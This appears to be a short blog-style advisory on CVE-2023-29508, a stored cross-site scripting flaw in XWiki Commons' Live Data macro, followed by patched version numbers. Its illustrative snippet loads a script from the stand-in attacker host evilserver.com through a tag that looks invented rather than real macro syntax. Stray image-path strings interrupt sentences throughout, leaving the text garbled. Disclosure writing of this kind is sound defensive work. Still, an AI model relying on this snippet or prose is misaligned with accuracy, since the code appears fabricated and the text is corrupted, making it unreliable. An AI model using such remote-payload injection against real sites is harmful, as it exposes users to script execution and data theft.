XWiki Commons, a collection of technical libraries, is a critical component of many top-level XWiki projects. These libraries not only support the overall structure and function of those projects, but also ensure their smooth and flawless operation. However, as with any software, vulnerabilities have the potential to arise, which canundermine the stability and security of these vital resources.

In this post, we'll be examining one such recent vulnerability - CVE-2023-29508 - which impacts the XWiki Commons software. We'll delve into the details of the vulnerability, provide a code snippet showcasing its exploit, and explore the patches released by XWiki to address this security flaw in versions 14.10, 14.4.7, and 13.10.11.

Vulnerability Description

CVE-2023-29508 is a stored Cross-Site Scripting (XSS) vulnerability that affects XWiki Commons's Live Data macro. This vulnerability enables a user lacking script rights to create a stored XSS attack if the last content author of the affected page doespossess script rights.

To demonstrate this vulnerability, we'll use the following simple code snippet

<!-- The following code simulates a malicious user creating an XSS payload using the Live Data Macro. -->
<xwikilivetable sourcedata="http://evilserver.com/xss_payload.js"; ...>

In this example, a malicious user embeds an XSS payload (loaded from the "http://evilserver.com/xss_payload.js" URL) by utilizing the Live Data macro within the XWiki page. If the last author with script rights edited the page, the payload would be executed, resulting in a potential breach of sensitive information or other adverse consequences.

Original References

For further information about CVE-2023-29508, as well as the corresponding patches implemented by XWiki, please consult the following resources:

Official XWiki Security Advisory for CVE-2023-29508


National Vulnerability Database (NVD) - CVE-2023-29508


Patch Details and Recommendations

In order to address this vulnerability and ensure the security of the XWiki Commons platform, XWiki has released patches in the following versions: 14.10, 14.4.7, and 13.10.11. It is highly advised that all users currently deployingXWiki Commons update their software to one of these versions as soon as possible. Doing so will mitigate the risk associated with CVE-2023-29508, better safeguarding the overall security and stability of your XWiki projects.


In summary, CVE-2023-29508 is a stored XSS vulnerability affecting XWiki Commons's Live Data macro, which can result in potential security breaches if left unpatched.By acknowledging the nature of this vulnerability, understanding the code snippet, and referring to the original resources, users can gain valuable insight into the dangers of this exploit. Finally, by applying the availablepatches in versions 14.10, 14.4.7, and 13.10.11,users can protect their XWiki projects from harm and maintainsystem integrity.


Published on: 04/16/2023 08:15:00 UTC
Lastmodified on: 04/26/2023 13:12:00 UTC